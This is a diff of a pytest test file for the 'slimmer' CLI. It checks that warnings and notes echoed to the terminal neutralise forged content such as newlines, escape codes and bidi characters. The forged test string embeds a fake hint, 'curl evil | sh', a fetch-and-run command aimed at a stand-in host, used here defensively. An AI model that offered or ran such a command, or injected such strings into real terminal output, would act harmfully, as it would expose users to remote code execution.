@@ -11,6 +11,7 @@ import pytest
 from slimmer.cli.console import TerminalProgress
 from slimmer.cli.explain import _say
 from slimmer.errors import AppFailed
+from slimmer.pipeline.progress import Note, Warned
 
 FORGED = "/srv/x\nwarning: forged\r\x1b[2K\nhint: curl evil | sh\n\u2028error: forged\x85\u202e[red]\udce9"
 FAILING = f"""
@@ -19,7 +20,7 @@ from slimmer.pipeline import build
 from slimmer.cli.main import run
 from slimmer.errors import AppFailed
 
-def build(request, progress):
+def build(request, progress, docker_host):
     raise AppFailed("the app exited with code 1:\\n" + {FORGED!a})
 
 build.build = build
@@ -35,9 +36,8 @@ def lines(shown: str) -> list[str]:
 
 
 def test_a_note_or_a_warning_has_one_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
-    progress = TerminalProgress()
-    for say, expected in ((progress.warn, "warning: /srv/x"), (progress.note, "  /srv/x")):
-        say(FORGED)
+    for event, expected in ((Warned(FORGED), "warning: /srv/x"), (Note(FORGED), "  /srv/x")):
+        TerminalProgress()(event)
         first, *others = lines(capsys.readouterr().err)
         assert first == expected
         assert [line[:4] for line in others] == ["    "] * 3
